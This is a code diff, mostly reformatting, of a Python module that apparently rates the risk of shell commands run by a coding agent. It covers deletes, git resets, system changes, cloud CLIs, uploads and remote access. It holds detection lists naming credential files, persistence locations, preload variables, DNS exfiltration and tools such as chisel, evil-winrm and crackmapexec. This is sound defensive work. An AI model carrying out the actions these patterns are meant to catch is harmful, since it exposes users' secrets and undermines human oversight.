@@ -45,6 +45,7 @@ class _LazyRe:
             self._re = re.compile(*self._args)
         return getattr(self._re, name)
 
+
 # Secrets whose reading alone exposes them (to the model's provider, to logs): always asked.
 CREDENTIAL_PATH = _LazyRe(
     r"(?:^|/)(?:\.ssh/(?:id_[\w-]+|authorized_keys2?|known_hosts)|id_(?:rsa|dsa|ecdsa|ed25519)|"
@@ -57,36 +58,105 @@ CREDENTIAL_PATH = _LazyRe(
     r"\.(?:ssh|aws|gnupg|kube|docker)/?)(?:$|[?#])"
 )
 # Key and secret files a project keeps (test certificates, a server.key): asked outside it.
-KEY_FILE = _LazyRe(r"(?:^|/)(?:[\w.-]*\.(?:pem|key|p12|pfx|jks|keystore)|master\.key|"
-                   r"credentials\.json|secrets?\.(?:ya?ml|json|toml)|\.npmrc|\.pypirc)$")
-_SYSTEM = ("/etc", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/boot",
-           "/var", "/opt", "/srv", "/sys", "/proc", "/dev", "/System", "/Library",
-           "/Applications", "/private/etc", "/private/var", "/snap")
+KEY_FILE = _LazyRe(
+    r"(?:^|/)(?:[\w.-]*\.(?:pem|key|p12|pfx|jks|keystore)|master\.key|"
+    r"credentials\.json|secrets?\.(?:ya?ml|json|toml)|\.npmrc|\.pypirc)$"
+)
+_SYSTEM = (
+    "/etc",
+    "/usr",
+    "/bin",
+    "/sbin",
+    "/lib",
+    "/lib32",
+    "/lib64",
+    "/libx32",
+    "/boot",
+    "/var",
+    "/opt",
+    "/srv",
+    "/sys",
+    "/proc",
+    "/dev",
+    "/System",
+    "/Library",
+    "/Applications",
+    "/private/etc",
+    "/private/var",
+    "/snap",
+)
 _TEMP = ("/tmp", "/var/tmp", "/dev/shm", "/private/tmp", "/private/var/folders")
-_HARMLESS_DEV = ("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/zero",
-                 "/dev/random", "/dev/urandom", "/dev/fd/", "/proc/self/fd/")
+_HARMLESS_DEV = (
+    "/dev/null",
+    "/dev/stdout",
+    "/dev/stderr",
+    "/dev/tty",
+    "/dev/zero",
+    "/dev/random",
+    "/dev/urandom",
+    "/dev/fd/",
+    "/proc/self/fd/",
+)
 _BLOCK_DEVICE = _LazyRe(r"^/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|md|dm-|mapper/|loop|sr)")
-_STARTUP = _LazyRe(r"(?:^|/)\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zshenv|zprofile|"
-                      r"zlogin|bash_logout|config/fish/config\.fish)$")
+_STARTUP = _LazyRe(
+    r"(?:^|/)\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zshenv|zprofile|"
+    r"zlogin|bash_logout|config/fish/config\.fish)$"
+)
 # Start-up entries a user account runs at login or boot (system ones are system paths).
-_STARTUP_ENTRY = _LazyRe(r"(?:^|/)(?:\.config/autostart/|\.config/systemd/user/|Library/"
-                            r"Launch(?:Agents|Daemons)/|Library/Preferences/com\.apple\."
-                            r"loginwindow|\.local/share/systemd/|\.xinitrc$|\.xprofile$|"
-                            r"\.config/fish/conf\.d/|Library/Application Support/com\.apple\."
-                            r"backgroundtaskmanagementagent|sitecustomize\.py$|usercustomize\.py$|"
-                            r"site-packages/[^/]+\.pth$|ld\.so\.preload$)")
-_PRELOAD = _LazyRe(r"^(?:LD_PRELOAD|DYLD_INSERT_LIBRARIES|LD_AUDIT|PYTHONSTARTUP|"
-                      r"NODE_OPTIONS|BASH_ENV|ENV|PROMPT_COMMAND)=(.*)$")
-_HISTORY_VARS = _LazyRe(r"^(?:HISTFILE|HISTSIZE|HISTFILESIZE|HISTCONTROL|HISTIGNORE|"
-                        r"SAVEHIST|HISTORY_IGNORE)=")
+_STARTUP_ENTRY = _LazyRe(
+    r"(?:^|/)(?:\.config/autostart/|\.config/systemd/user/|Library/"
+    r"Launch(?:Agents|Daemons)/|Library/Preferences/com\.apple\."
+    r"loginwindow|\.local/share/systemd/|\.xinitrc$|\.xprofile$|"
+    r"\.config/fish/conf\.d/|Library/Application Support/com\.apple\."
+    r"backgroundtaskmanagementagent|sitecustomize\.py$|usercustomize\.py$|"
+    r"site-packages/[^/]+\.pth$|ld\.so\.preload$)"
+)
+_PRELOAD = _LazyRe(
+    r"^(?:LD_PRELOAD|DYLD_INSERT_LIBRARIES|LD_AUDIT|PYTHONSTARTUP|"
+    r"NODE_OPTIONS|BASH_ENV|ENV|PROMPT_COMMAND)=(.*)$"
+)
+_HISTORY_VARS = _LazyRe(
+    r"^(?:HISTFILE|HISTSIZE|HISTFILESIZE|HISTCONTROL|HISTIGNORE|"
+    r"SAVEHIST|HISTORY_IGNORE)="
+)
 _MAIN_BRANCHES = frozenset({"main", "master", "trunk", "develop", "production", "release"})
 _ORDER = {"low": 0, "medium": 1, "high": 2, "critical": 3}
 
 
-_ROOT_CHILDREN = ("bin", "boot", "dev", "etc", "home", "lib", "lib64", "opt", "root", "sbin",
-                  "srv", "usr", "var", "Users", "System", "Library", "Applications", "private")
-_HOME_CHILDREN = (".ssh", ".aws", ".gnupg", ".config", ".bashrc", ".profile", "Documents",
-                  "Desktop", "projects", "src", ".local", "Library")
+_ROOT_CHILDREN = (
+    "bin",
+    "boot",
+    "dev",
+    "etc",
+    "home",
+    "lib",
+    "lib64",
+    "opt",
+    "root",
+    "sbin",
+    "srv",
+    "usr",
+    "var",
+    "Users",
+    "System",
+    "Library",
+    "Applications",
+    "private",
+)
+_HOME_CHILDREN = (
+    ".ssh",
+    ".aws",
+    ".gnupg",
+    ".config",
+    ".bashrc",
+    ".profile",
+    "Documents",
+    "Desktop",
+    "projects",
+    "src",
+    ".local",
+    "Library",
+)
 
 
 def path_class(value: str, cwd: str | None, workspace: str | None) -> str:
@@ -98,13 +168,17 @@ def path_class(value: str, cwd: str | None, workspace: str | None) -> str:
         return "unknown"
     head, _, last = value.rstrip("/").rpartition("/")
     if last and any(c in last for c in "*?[") and last not in ("*", ".*"):
-        return _glob_class(head if value.startswith("/") or head else (head or "."), last,
-                           value.startswith("/"), cwd, workspace)
+        return _glob_class(
+            head if value.startswith("/") or head else (head or "."),
+            last,
+            value.startswith("/"),
+            cwd,
+            workspace,
+        )
     return _path_class(value, cwd, workspace)
 
 
-def _glob_class(parent: str, pattern: str, absolute: bool, cwd: str | None,
-                workspace: str | None) -> str:
+def _glob_class(parent: str, pattern: str, absolute: bool, cwd: str | None, workspace: str | None) -> str:
     from fnmatch import fnmatchcase
 
     parent = parent or ("/" if absolute else ".")
@@ -115,9 +189,11 @@ def _glob_class(parent: str, pattern: str, absolute: bool, cwd: str | None,
             return "home" if set(hits) <= {"home", "root", "Users"} else "system"
         return "outside"
     if cls == "workspace":
-        return "git" if fnmatchcase(".git", pattern) else (
-            "workspace" if fnmatchcase("src", pattern) and fnmatchcase("tests", pattern)
-            else "inside")
+        return (
+            "git"
+            if fnmatchcase(".git", pattern)
+            else ("workspace" if fnmatchcase("src", pattern) and fnmatchcase("tests", pattern) else "inside")
+        )
     if cls == "home":
         hits = [n for n in _HOME_CHILDREN if fnmatchcase(n, pattern)]
         return "home" if len(hits) >= 3 or {".ssh", ".aws", ".gnupg"} & set(hits) else "home-file"
@@ -144,8 +220,11 @@ def _path_class(value: str, cwd: str | None, workspace: str | None) -> str:
     if path.startswith("/proc/self/fd/"):
         return "harmless"
     if path.startswith("/dev/"):
-        return "device" if _BLOCK_DEVICE.match(path) else ("harmless" if path.startswith(
-            _HARMLESS_DEV) else "system")
+        return (
+            "device"
+            if _BLOCK_DEVICE.match(path)
+            else ("harmless" if path.startswith(_HARMLESS_DEV) else "system")
+        )
     ws = posixpath.normpath(workspace) if workspace else None
     if ws and ws != "/":
         if base == ws:
@@ -155,15 +234,19 @@ def _path_class(value: str, cwd: str | None, workspace: str | None) -> str:
         if base.startswith(ws + "/"):
             return "inside"
     if base in (home, "/home", "/Users", "/root") or (
-            base.startswith(("/home/", "/Users/")) and base.count("/") == 2):
+        base.startswith(("/home/", "/Users/")) and base.count("/") == 2
+    ):
         return "home"
     if base.startswith(tuple(t + "/" for t in _TEMP)) or (base in _TEMP and glob):
         return "temp"
     if base in _TEMP:
         return "outside"
-    if re.match(re.escape(home) + r"/(?:\.cache|\.npm/_cacache|\.cargo/registry|\.gradle/caches|"
-                r"\.m2/repository|Library/Caches|\.local/share/Trash|\.pnpm-store|\.yarn/cache)"
-                r"(?:/|$)", base):
+    if re.match(
+        re.escape(home) + r"/(?:\.cache|\.npm/_cacache|\.cargo/registry|\.gradle/caches|"
+        r"\.m2/repository|Library/Caches|\.local/share/Trash|\.pnpm-store|\.yarn/cache)"
+        r"(?:/|$)",
+        base,
+    ):
         return "temp"  # caches: rebuilt on demand
     if base.startswith(home + "/"):
         return "home-file"
@@ -174,9 +257,15 @@ def _path_class(value: str, cwd: str | None, workspace: str | None) -> str:
 
 
 # What a filtered find (-name, -type, -mtime...) reaches under its start path.
-_UNDER = {"workspace": "inside", "git": "inside", "outside": "found-outside",
-          "home-file": "found-outside", "root": "found-wide", "home": "found-wide",
-          "system": "found-wide"}
+_UNDER = {
+    "workspace": "inside",
+    "git": "inside",
+    "outside": "found-outside",
+    "home-file": "found-outside",
+    "root": "found-wide",
+    "home": "found-wide",
+    "system": "found-wide",
+}
 
 
 def _targets(cmd: Cmd, words: list[Word], cwd: str | None, ws: str | None) -> list[tuple[str, str]]:
@@ -217,23 +306,43 @@ def _flags(args: list[Word]) -> tuple[set[str], list[Word]]:
 
 
 _DELETE_LEVEL = {  # (class, recursive) -> level
-    ("root", True): "critical", ("home", True): "critical", ("system", True): "critical",
-    ("workspace", True): "critical", ("git", True): "critical", ("device", True): "critical",
-    ("root", False): "high", ("home", False): "high", ("system", False): "high",
-    ("workspace", False): "high", ("git", False): "high",
-    ("home-file", True): "high", ("home-file", False): "medium",
-    ("outside", True): "high", ("outside", False): "medium",
-    ("unknown-root", True): "high", ("unknown-root", False): "medium",
-    ("unknown", True): "medium", ("found-wide", True): "high", ("found-wide", False): "high",
-    ("found-outside", True): "high", ("found-outside", False): "medium",
+    ("root", True): "critical",
+    ("home", True): "critical",
+    ("system", True): "critical",
+    ("workspace", True): "critical",
+    ("git", True): "critical",
+    ("device", True): "critical",
+    ("root", False): "high",
+    ("home", False): "high",
+    ("system", False): "high",
+    ("workspace", False): "high",
+    ("git", False): "high",
+    ("home-file", True): "high",
+    ("home-file", False): "medium",
+    ("outside", True): "high",
+    ("outside", False): "medium",
+    ("unknown-root", True): "high",
+    ("unknown-root", False): "medium",
+    ("unknown", True): "medium",
+    ("found-wide", True): "high",
+    ("found-wide", False): "high",
+    ("found-outside", True): "high",
+    ("found-outside", False): "medium",
 }
-_CLASS_NAME = {"root": "the root", "home": "a home folder", "system": "a system path",
-               "workspace": "the workspace itself", "git": "the repository's .git",
-               "device": "a device", "home-file": "files outside the workspace (home)",
-               "outside": "outside the workspace", "unknown-root": "a path that may expand to /",
-               "unknown": "a path known only at run time",
-               "found-wide": "matching files anywhere under", "found-outside":
-               "matching files outside the workspace, under"}
+_CLASS_NAME = {
+    "root": "the root",
+    "home": "a home folder",
+    "system": "a system path",
+    "workspace": "the workspace itself",
+    "git": "the repository's .git",
+    "device": "a device",
+    "home-file": "files outside the workspace (home)",
+    "outside": "outside the workspace",
+    "unknown-root": "a path that may expand to /",
+    "unknown": "a path known only at run time",
+    "found-wide": "matching files anywhere under",
+    "found-outside": "matching files outside the workspace, under",
+}
 
 
 def _worst(findings: list[Finding]) -> str:
@@ -244,7 +353,8 @@ def _rm(cmd: Cmd, ws: str | None) -> list[Finding]:
     flags, operands = _flags(cmd.argv[1:])
     # find walks its start paths: unfiltered, it reaches everything under them
     recursive = bool(flags & {"-r", "-R", "--recursive"}) or any(
-        w.found_under and not w.filtered for w in operands)
+        w.found_under and not w.filtered for w in operands
+    )
     if "--no-preserve-root" in flags:
         return [("critical", "recursive delete with --no-preserve-root")]
     out = []
@@ -255,11 +365,14 @@ def _rm(cmd: Cmd, ws: str | None) -> list[Finding]:
             out.append((level, f"{kind} of {_CLASS_NAME[cls]} ({value})"))
     if cmd.from_input and recursive and not operands:
         out.append(("medium", "recursive delete of paths read from input"))
-    confirmed = (flags & {"-i", "--interactive"} or any(w.startswith("find -ok") for w in
-                                                          cmd.wrappers)) and cmd.stdin is None
+    confirmed = (
+        flags & {"-i", "--interactive"} or any(w.startswith("find -ok") for w in cmd.wrappers)
+    ) and cmd.stdin is None
     if confirmed:  # the program asks before each file (and nothing answers for the user)
-        out = [("medium" if lvl in ("high", "critical") else lvl, f"{why}, confirmed per file")
-               for lvl, why in out]
+        out = [
+            ("medium" if lvl in ("high", "critical") else lvl, f"{why}, confirmed per file")
+            for lvl, why in out
+        ]
     return out
 
 
@@ -270,9 +383,9 @@ def _git(cmd: Cmd, ws: str | None) -> list[Finding]:
         i += 2 if args[i] in ("-C", "-c", "--git-dir", "--work-tree", "--namespace") else 1
     if i >= len(args):
         return []
-    sub, rest = args[i], args[i + 1:]
+    sub, rest = args[i], args[i + 1 :]
     flags = set(rest)
-    paths = rest[rest.index("--") + 1:] if "--" in rest else []
+    paths = rest[rest.index("--") + 1 :] if "--" in rest else []
     roots = {".", "*", ":/", "./", ":/*", ws or ".", cmd.cwd or "."}
     whole = lambda ps: any(p.rstrip("/") in roots or p in roots for p in ps)  # noqa: E731
     if sub == "reset" and "--hard" in flags:
@@ -287,8 +400,7 @@ def _git(cmd: Cmd, ws: str | None) -> list[Finding]:
         return []
     if sub == "switch" and ({"-f", "--force", "--discard-changes"} & flags):
         return [("high", "git switch --discard-changes drops uncommitted changes")]
-    if sub == "rm" and "--cached" not in flags and whole([a for a in rest if
-                                                          not a.startswith("-")]):
+    if sub == "rm" and "--cached" not in flags and whole([a for a in rest if not a.startswith("-")]):
         return [("critical", "git rm of the whole tree deletes the working files")]
     if sub == "read-tree" and "--reset" in flags and "-u" in flags:
         return [("critical", "git read-tree -u --reset discards uncommitted changes")]
@@ -310,8 +422,9 @@ def _git(cmd: Cmd, ws: str | None) -> list[Finding]:
         return [("medium", "git stash drop drops a stash")]
     if sub == "push":
         lease = any(a.startswith(("--force-with-lease", "--force-if-includes")) for a in rest)
-        force = not lease and ("--force" in flags or "-f" in flags or any(
-            a.startswith("+") for a in rest) or "--mirror" in flags)
+        force = not lease and (
+            "--force" in flags or "-f" in flags or any(a.startswith("+") for a in rest) or "--mirror" in flags
+        )
         if force:  # asked, not denied: the remote keeps a reflog, and a human may mean it
             refs = {a.lstrip("+").split(":")[-1] for a in rest if not a.startswith("-")}
             shared = " of a shared branch" if refs & _MAIN_BRANCHES else ""
@@ -319,8 +432,7 @@ def _git(cmd: Cmd, ws: str | None) -> list[Finding]:
         if "--delete" in flags or "-d" in flags:
             return [("medium", "git push --delete removes a remote branch")]
         return []
-    if sub == "branch" and ("-D" in flags or ({"--delete", "-d"} & flags and
-                                              {"--force", "-f"} & flags)):
+    if sub == "branch" and ("-D" in flags or ({"--delete", "-d"} & flags and {"--force", "-f"} & flags)):
         return [("high", "git branch -D deletes a branch with unmerged commits")]
     if sub in ("filter-branch", "filter-repo"):
         return [("high", f"git {sub} rewrites history")]
@@ -360,14 +472,15 @@ def _perms(cmd: Cmd, ws: str | None) -> list[Finding]:
 
 
 _REMOTE = _LazyRe(r"^(?:[\w.-]+@)?[\w.-]+:(?!//)|^(?:rsync|sftp|scp)://")
-_COPY_WITH_ARG = frozenset("-P -i -o -F -l -c -J -S -e --rsh --port --exclude --include "
-                           "--filter -f --files-from --password-file --rsync-path".split())
+_COPY_WITH_ARG = frozenset(
+    "-P -i -o -F -l -c -J -S -e --rsh --port --exclude --include "
+    "--filter -f --files-from --password-file --rsync-path".split()
+)
 
 
 def _sync_delete(cmd: Cmd, ws: str | None) -> list[Finding]:
     """``rsync --delete SRC DST`` deletes what DST has and SRC lacks: a delete of DST."""
-    if not any(a.startswith(("--delete", "--del")) or a == "--remove-source-files"
-               for a in cmd.args):
+    if not any(a.startswith(("--delete", "--del")) or a == "--remove-source-files" for a in cmd.args):
         return []
     operands = [w for w in cmd.argv[1:] if not w.value.startswith("-")]
     if len(operands) < 2 or _REMOTE.match(operands[-1].value):
@@ -416,45 +529,98 @@ def _remote_copy(cmd: Cmd) -> list[Finding]:
 # coding agent's work never needs them, so a human confirms. None: any use; a set: the
 # subcommands or flags that change something (the rest only read).
 _SYSTEM_CHANGE: dict[str, frozenset[str] | None] = {
-    "systemctl": frozenset("stop disable mask kill isolate set-default enable daemon-reload "
-                           "link edit revert set-property".split()),
+    "systemctl": frozenset(
+        "stop disable mask kill isolate set-default enable daemon-reload "
+        "link edit revert set-property".split()
+    ),
     "service": frozenset({"stop", "disable"}),
-    "launchctl": frozenset("load unload bootstrap bootout submit remove disable enable setenv "
-                           "asuser kickstart".split()),
+    "launchctl": frozenset(
+        "load unload bootstrap bootout submit remove disable enable setenv asuser kickstart".split()
+    ),
     "sysctl": frozenset({"-w", "--write", "-p", "--load"}),
     "defaults": frozenset({"write", "delete", "import", "rename"}),
     "auditctl": frozenset({"-D", "-e", "-W", "-w", "-a", "-A", "-d", "-R", "-b", "-f"}),
     "ufw": frozenset("disable delete reset allow deny reject limit logging default".split()),
-    "iptables": frozenset("-F -X -D -A -I -P -R -Z -N -E --flush --delete --append "
-                          "--insert --policy".split()),
+    "iptables": frozenset(
+        "-F -X -D -A -I -P -R -Z -N -E --flush --delete --append --insert --policy".split()
+    ),
     "ip6tables": frozenset("-F -X -D -A -I -P -R -Z -N -E --flush --policy".split()),
     "nft": frozenset({"flush", "delete", "add", "insert", "replace", "create", "destroy"}),
-    "pfctl": frozenset({"-d", "-F", "-f", "-e"}), "setenforce": None,
-    "modprobe": None, "insmod": None, "rmmod": None, "kextload": None, "kextunload": None,
-    "kmutil": frozenset({"load", "unload"}), "swapoff": None,
-    "chflags": None, "spctl": frozenset({"--master-disable", "--disable", "--add",
-                                         "--global-disable"}),
-    "csrutil": frozenset({"disable"}), "tccutil": frozenset({"reset"}),
-    "update-rc.d": None, "chkconfig": None, "rc-update": frozenset({"add", "del"}),
-    "sysrc": None, "crontab": frozenset({"-r", "-", "-i"}), "at": None, "atrun": None,
-    "useradd": None, "userdel": None, "usermod": None, "adduser": None, "deluser": None,
-    "groupadd": None, "groupdel": None, "groupmod": None, "chpasswd": None, "chage": None,
-    "visudo": None, "sysadminctl": None, "dseditgroup": frozenset({"-o"}),
+    "pfctl": frozenset({"-d", "-F", "-f", "-e"}),
+    "setenforce": None,
+    "modprobe": None,
+    "insmod": None,
+    "rmmod": None,
+    "kextload": None,
+    "kextunload": None,
+    "kmutil": frozenset({"load", "unload"}),
+    "swapoff": None,
+    "chflags": None,
+    "spctl": frozenset({"--master-disable", "--disable", "--add", "--global-disable"}),
+    "csrutil": frozenset({"disable"}),
+    "tccutil": frozenset({"reset"}),
+    "update-rc.d": None,
+    "chkconfig": None,
+    "rc-update": frozenset({"add", "del"}),
+    "sysrc": None,
+    "crontab": frozenset({"-r", "-", "-i"}),
+    "at": None,
+    "atrun": None,
+    "useradd": None,
+    "userdel": None,
+    "usermod": None,
+    "adduser": None,
+    "deluser": None,
+    "groupadd": None,
+    "groupdel": None,
+    "groupmod": None,
+    "chpasswd": None,
+    "chage": None,
+    "visudo": None,
+    "sysadminctl": None,
+    "dseditgroup": frozenset({"-o"}),
     "dscl": frozenset({"-create", "-delete", "-append", "-passwd", "-merge", "-change"}),
     "pw": frozenset("useradd usermod userdel groupadd groupmod groupdel lock".split()),
     "timedatectl": frozenset({"set-time", "set-timezone", "set-ntp"}),
-    "hostnamectl": frozenset({"set-hostname", "hostname"}), "scutil": frozenset({"--set"}),
-    "networksetup": None, "nvram": None, "pmset": None, "systemsetup": None,
-    "journalctl": frozenset({"--vacuum-size", "--vacuum-time", "--vacuum-files", "--rotate",
-                             "--flush"}),
-    "log": frozenset({"erase", "config"}), "shutdown": None, "reboot": None, "halt": None,
-    "poweroff": None, "init": frozenset({"0", "6"}), "sfltool": None, "profiles": frozenset({"install",
-                                                                                   "remove"}),
+    "hostnamectl": frozenset({"set-hostname", "hostname"}),
+    "scutil": frozenset({"--set"}),
+    "networksetup": None,
+    "nvram": None,
+    "pmset": None,
+    "systemsetup": None,
+    "journalctl": frozenset({"--vacuum-size", "--vacuum-time", "--vacuum-files", "--rotate", "--flush"}),
+    "log": frozenset({"erase", "config"}),
+    "shutdown": None,
+    "reboot": None,
+    "halt": None,
+    "poweroff": None,
+    "init": frozenset({"0", "6"}),
+    "sfltool": None,
+    "profiles": frozenset({"install", "remove"}),
 }
-_REMOTE_ACCESS = frozenset({"ngrok", "cloudflared", "chisel", "frpc", "frps", "localtunnel",
-                            "lt", "sshpass", "psexec", "psexec.py", "wmiexec.py", "smbexec.py",
-                            "atexec.py", "evil-winrm", "crackmapexec", "proxychains",
-                            "proxychains4", "tor", "autossh"})
+_REMOTE_ACCESS = frozenset(
+    {
+        "ngrok",
+        "cloudflared",
+        "chisel",
+        "frpc",
+        "frps",
+        "localtunnel",
+        "lt",
+        "sshpass",
+        "psexec",
+        "psexec.py",
+        "wmiexec.py",
+        "smbexec.py",
+        "atexec.py",
+        "evil-winrm",
+        "crackmapexec",
+        "proxychains",
+        "proxychains4",
+        "tor",
+        "autossh",
+    }
+)
 
 
 def _system_change(cmd: Cmd) -> list[Finding]:
@@ -470,32 +636,55 @@ def _system_change(cmd: Cmd) -> list[Finding]:
     if cmd.prog == "sysctl" and any("=" in a for a in args):
         return [("high", "changes the system's configuration (sysctl)")]
     flags = {a.split("=", 1)[0] for a in args}
-    if (spec is None and (args or cmd.prog in ("setenforce", "swapoff", "visudo", "reboot",
-                                              "halt", "poweroff", "shutdown"))) \
-            or (spec is not None and flags & spec):
+    if (
+        spec is None
+        and (
+            args or cmd.prog in ("setenforce", "swapoff", "visudo", "reboot", "halt", "poweroff", "shutdown")
+        )
+    ) or (spec is not None and flags & spec):
         what = next((a for a in args if spec and a.split("=", 1)[0] in spec), "")
-        return [("high", f"changes the system's configuration ({cmd.prog} {what}".rstrip()
-                 + ")")]
+        return [("high", f"changes the system's configuration ({cmd.prog} {what}".rstrip() + ")")]
     return []
 
 
-_CLOUD = frozenset({"aws", "gcloud", "az", "kubectl", "oc", "terraform", "tofu", "pulumi",
-                    "gsutil", "doctl", "oci", "eksctl", "stratus", "helm", "ibmcloud"})
+_CLOUD = frozenset(
+    {
+        "aws",
+        "gcloud",
+        "az",
+        "kubectl",
+        "oc",
+        "terraform",
+        "tofu",
+        "pulumi",
+        "gsutil",
+        "doctl",
+        "oci",
+        "eksctl",
+        "stratus",
+        "helm",
+        "ibmcloud",
+    }
+)
 _CLOUD_VERB = _LazyRe(
     r"^(?:create|delete|put|update|modify|attach|detach|run|stop|terminate|authorize|revoke|"
     r"remove|add|set|enable|disable|deregister|register|associate|disassociate|import|replace|"
     r"patch|apply|destroy|drain|cordon|scale|exec|cp|sync|mv|rm|rb|mb|deploy|install|"
     r"uninstall|upgrade|rollback|detonate|warmup|reset|rotate|purge|restore|copy|share)"
-    r"(?:[-_]|$)")
-_CLOUD_SECRET = _LazyRe(r"^(?:secrets?|get-secret-value|get-parameters?|get-session-token|"
-                           r"get-credentials|print-access-token|get-login-password|"
-                           r"list-access-keys|create-access-key|get-password-data|keys)$")
+    r"(?:[-_]|$)"
+)
+_CLOUD_SECRET = _LazyRe(
+    r"^(?:secrets?|get-secret-value|get-parameters?|get-session-token|"
+    r"get-credentials|print-access-token|get-login-password|"
+    r"list-access-keys|create-access-key|get-password-data|keys)$"
+)
 
 
 def _cloud(cmd: Cmd) -> list[Finding]:
     """Cloud and cluster CLIs: changing resources, or reading their secrets."""
-    if cmd.prog not in _CLOUD or any(a.startswith(("--dry-run", "--dryrun")) or a == "plan"
-                                     for a in cmd.args):
+    if cmd.prog not in _CLOUD or any(
+        a.startswith(("--dry-run", "--dryrun")) or a == "plan" for a in cmd.args
+    ):
         return []
     words = [a for a in cmd.args if not a.startswith("-")][:4]
     if any(_CLOUD_SECRET.match(w) for w in words):
@@ -505,34 +694,53 @@ def _cloud(cmd: Cmd) -> list[Finding]:
     return []
 
 
-_UPLOAD = _LazyRe(r"^(?:-F|--form|-T|--upload-file|--data-binary|--data-raw|--data|"
-                     r"--data-urlencode|-d|--post-file|--post-data|--body-file|--body-data|"
-                     r"--json)(?:=|$)")
+_UPLOAD = _LazyRe(
+    r"^(?:-F|--form|-T|--upload-file|--data-binary|--data-raw|--data|"
+    r"--data-urlencode|-d|--post-file|--post-data|--body-file|--body-data|"
+    r"--json)(?:=|$)"
+)
 
 
 def _sends(cmd: Cmd) -> list[Finding]:
     """Data leaving the machine: uploads, DNS queries carrying data, remote output saved."""
     prog, args = cmd.prog, cmd.args
-    hosts = [a for a in args if not a.startswith("-") and re.match(
-        r"^(?:[a-z]+://)?(?:[^@/]*@)?[\w.-]+(?::\d+)?(?:/|$)", a)]
-    if hosts and all(re.match(r"^(?:[a-z]+://)?(?:[^@/]*@)?(?:localhost|127\.\d+\.\d+\.\d+|"
-                              r"0\.0\.0\.0|\[::1\]|host\.docker\.internal)(?::\d+)?(?:/|$)", h)
-                     for h in hosts[-1:]):
+    hosts = [
+        a
+        for a in args
+        if not a.startswith("-") and re.match(r"^(?:[a-z]+://)?(?:[^@/]*@)?[\w.-]+(?::\d+)?(?:/|$)", a)
+    ]
+    if hosts and all(
+        re.match(
+            r"^(?:[a-z]+://)?(?:[^@/]*@)?(?:localhost|127\.\d+\.\d+\.\d+|"
+            r"0\.0\.0\.0|\[::1\]|host\.docker\.internal)(?::\d+)?(?:/|$)",
+            h,
+        )
+        for h in hosts[-1:]
+    ):
         return []  # this machine's own services
     if prog in ("curl", "wget", "http", "https"):
         method = [args[i + 1].upper() for i, a in enumerate(args[:-1]) if a in ("-X", "--request")]
         method += [a.split("=", 1)[1].upper() for a in args if a.startswith("--method=")]
         method += [a[2:].upper() for a in args if a.startswith("-X") and len(a) > 2]
-        files = [a for i, a in enumerate(args[1:], 1) if _UPLOAD.match(args[i - 1]) and
-                 a.startswith("@")] + [a.split("=", 1)[1] for a in args if _UPLOAD.match(a)
-                                       and "=" in a and a.split("=", 1)[1].startswith("@")]
-        if files or any(_UPLOAD.match(a) and a in ("-F", "--form", "-T", "--upload-file",
-                                                   "--post-file", "--body-file") for a in args) \
-                or {"POST", "PUT"} & set(method) \
-                or any(a.startswith(("--post-data", "--post-file", "--body-data")) for a in args):
+        files = [a for i, a in enumerate(args[1:], 1) if _UPLOAD.match(args[i - 1]) and a.startswith("@")] + [
+            a.split("=", 1)[1]
+            for a in args
+            if _UPLOAD.match(a) and "=" in a and a.split("=", 1)[1].startswith("@")
+        ]
+        if (
+            files
+            or any(
+                _UPLOAD.match(a)
+                and a in ("-F", "--form", "-T", "--upload-file", "--post-file", "--body-file")
+                for a in args
+            )
+            or {"POST", "PUT"} & set(method)
+            or any(a.startswith(("--post-data", "--post-file", "--body-data")) for a in args)
+        ):
             return [("high", f"sends data to a remote host ({prog} upload)")]
     if prog in ("dig", "nslookup", "host", "drill") and any(
-            not w.static and re.search(r"[)`][\w-]*\.[\w-]+", w.value) for w in cmd.argv[1:]):
+        not w.static and re.search(r"[)`][\w-]*\.[\w-]+", w.value) for w in cmd.argv[1:]
+    ):
         return [("high", "sends data to a remote host (inside DNS queries)")]
     return []
 
@@ -555,20 +763,37 @@ def _history(cmd: Cmd) -> list[Finding]:
 
 def _remote_access(cmd: Cmd) -> list[Finding]:
     prog, args = cmd.prog, cmd.args
-    if prog in _REMOTE_ACCESS and (prog != "cloudflared" or "tunnel" in args) and (
-            prog != "lt" or "--port" in args):
+    if (
+        prog in _REMOTE_ACCESS
+        and (prog != "cloudflared" or "tunnel" in args)
+        and (prog != "lt" or "--port" in args)
+    ):
         return [("high", f"opens a remote access channel ({prog})")]
-    if prog == "ssh" and any(a in ("-R", "-D") or (a.startswith(("-R", "-D")) and len(a) > 2)
-                             for a in args):
+    if prog == "ssh" and any(a in ("-R", "-D") or (a.startswith(("-R", "-D")) and len(a) > 2) for a in args):
         return [("high", "opens a remote access channel (ssh port forward)")]
-    if (prog.startswith("python") and any(a in ("-mhttp.server", "http.server") for a in args)) \
-            or (prog in ("php",) and "-S" in args):
+    if (prog.startswith("python") and any(a in ("-mhttp.server", "http.server") for a in args)) or (
+        prog in ("php",) and "-S" in args
+    ):
         return [("high", "opens a remote access channel (a web server on this machine)")]
     return []
 
 
-_DISK_TOOLS = frozenset({"mkfs", "wipefs", "fdisk", "sfdisk", "cfdisk", "parted", "gdisk",
-                         "sgdisk", "blkdiscard", "mkswap", "cryptsetup", "zpool"})
+_DISK_TOOLS = frozenset(
+    {
+        "mkfs",
+        "wipefs",
+        "fdisk",
+        "sfdisk",
+        "cfdisk",
+        "parted",
+        "gdisk",
+        "sgdisk",
+        "blkdiscard",
+        "mkswap",
+        "cryptsetup",
+        "zpool",
+    }
+)
 
 
 def _writes(cmd: Cmd, ws: str | None) -> list[Finding]:
@@ -589,9 +814,13 @@ def _writes(cmd: Cmd, ws: str | None) -> list[Finding]:
     out: list[Finding] = []
     for assign in (*cmd.assigns, *(a for a in cmd.args if cmd.prog == "export")):
         m = _PRELOAD.match(assign)
-        if m and not m.group(0).startswith("PROMPT_COMMAND") and (
-                not m.group(0).startswith("NODE_OPTIONS") or "--require" in m.group(1)
-                or "-r " in m.group(1)):
+        if (
+            m
+            and not m.group(0).startswith("PROMPT_COMMAND")
+            and (
+                not m.group(0).startswith("NODE_OPTIONS") or "--require" in m.group(1) or "-r " in m.group(1)
+            )
+        ):
             value = m.group(1).strip("'\"")
             cls = path_class(value.split(":")[0], cmd.cwd, ws) if value else "inside"
             if cls not in ("inside", "workspace", "system") or cmd.prog == "export":
